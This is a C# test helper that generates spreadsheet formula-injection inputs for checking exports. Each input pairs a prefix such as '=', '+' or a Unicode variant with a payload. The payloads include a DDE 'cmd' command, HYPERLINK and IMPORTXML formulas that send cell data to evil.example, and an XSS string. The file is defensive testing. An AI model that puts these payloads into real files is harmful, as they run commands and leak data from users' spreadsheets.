namespace Bridge.Host.Tests.Exporting;

/// <summary>Texts that a spreadsheet would take for formulas, with all that it skips before one; and how to tell that one would.</summary>
internal static class FormulaText
{
    private static readonly string[] Beginnings = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\u3000=", "\ufeff=", "\u200b=", "\u202e=", "＝", "＋", "－", "＠", "\0=", "'=", "\"="];

    private static readonly string[] Ends =
    [
        "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "IMPORTXML(\"http://evil.example\",\"//a\")", "SUM(1,2)", "2+3+cmd|' /C calc'!A0",
        "\";=1+1", ",=1+1", "x;=1+1", "x\r\n=1+1", "<img src=x onerror=alert(1)>", "]]></t><f>1+1</f><t>",
    ];

    public static IReadOnlyList<string> Corpus { get; } = [.. from beginning in Beginnings from end in Ends select beginning + end];

    /// <summary>Without what guards it, and without what XML cannot hold or makes alike.</summary>
    public static string Bare(string text) => string.Concat(text.Where(letter => letter is not ('\'' or '\r' or '\n' or '\0' or '\ufffd')));

    public static bool IsFormula(string cell)
    {
        var seen = cell.TrimStart(' ', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u202e', '\t', '\r', '\n', '\0', '\ufffd');
        return seen.Length > 0 && "=+-@＝＋－＠".Contains(seen[0], StringComparison.Ordinal);
    }
}
